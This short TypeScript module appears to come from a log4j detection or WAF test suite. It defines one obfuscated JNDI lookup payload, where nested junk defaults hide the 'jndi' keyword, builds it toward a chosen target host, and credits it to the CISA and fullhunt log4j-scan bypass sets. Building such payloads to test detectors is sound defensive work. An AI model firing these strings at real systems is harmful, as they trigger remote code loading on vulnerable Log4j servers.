import { afterScheme, disguise } from '../form.ts'

export const junkNameNestedDefault = disguise(
  {
    id: 'junk-name-nested-default',
    summary: 'a name of junk whose default is another junk name',
    firesOn: ['B', 'C'],
    seenIn: ['CISA log4j-scan waf10', 'fullhunt log4j-scan waf10'],
  },
  (target) => `\${jnd\${123%25ff:-\${123%25ff:-i:}}${target.scheme}:${afterScheme(target)}}`,
)
